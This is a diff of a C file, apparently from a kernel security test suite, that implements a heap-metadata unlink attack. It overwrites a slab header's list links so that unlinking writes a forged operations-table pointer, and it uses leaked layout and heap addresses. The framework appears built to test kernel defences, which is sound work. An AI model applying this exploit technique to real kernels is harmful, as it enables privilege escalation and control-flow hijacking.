@@ -1,15 +1,14 @@
 /* SPDX-License-Identifier: BSD-3-Clause */
 /*
- * The heap's own pointers: a write before the start of an object reaches the header of its slab, whose links are
- * overwritten. When the slab fills up it is taken off its list, and that writes one of the links where the other says:
+ * The heap's own pointers: a write before the start of an object reaches the header of its slab, at the start of the
+ * page, whose links are overwritten. When the slab fills up it is taken off its list, and that writes one of the links where the other says:
  * over the pointer to a table of operations.
  */
 #include "attacks.h"
 
 #include <kernel/heap.h>
 
-#define SIZE 496 /* eight blocks a page, behind a header of 64 bytes */
-#define FIRST_BLOCK 64
+#define SIZE 496 /* eight blocks a page, at most */
 #define BLOCKS 8
 
 /* The start of kernel/mm/heap_slab.c's struct slab. */
@@ -63,21 +62,23 @@ static void run(const struct attack *attack)
 	uintptr_t slide = attack_leaked_slide(), forged;
 	struct operations operations = { 0 };
 	uintptr_t goal = attack_linked_code(attack_goal) + slide;
-	uint64_t *slots;
 
 	memcpy(&operations.run, &goal, sizeof(goal));
 	forged = attack_leaked_heap(&operations, sizeof(operations));
-	/* Slabs that are full, and then one of which this is the first block, and which is the only one with room. */
-	do {
-		slots = heap_zalloc(SIZE);
-		if (!slots)
-			attack_failed(attack, "no memory");
-	} while ((uintptr_t)slots % PAGE_SIZE != FIRST_BLOCK);
 	attack_primitive(attack);
-	set_slot(slots, -(FIRST_BLOCK / 8), attack_linked(&driver) + slide);
-	set_slot(slots, -(FIRST_BLOCK / 8) + 1, forged);
-	for (int i = 1; i < BLOCKS && heap_alloc(SIZE); i++)
-		drive(slots, 1);
+	/* A slab that is full already is on no list: then the next one. */
+	for (int tries = 0; tries < BLOCKS; tries++) {
+		struct attack_leaky object = { .pointer = heap_zalloc(SIZE) };
+		uintptr_t at = attack_leaky_read(&object, ATTACK_LEAK);
+		long header = -(long)(at % PAGE_SIZE / sizeof(uint64_t));
+
+		if (!at)
+			attack_failed(attack, "no memory");
+		set_slot((uint64_t *)at, header, attack_linked(&driver) + slide);
+		set_slot((uint64_t *)at, header + 1, forged);
+		for (int i = 0; i < BLOCKS && heap_alloc(SIZE); i++)
+			drive(&object, 1);
+	}
 }
 
 ATTACK(heap_unlink, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
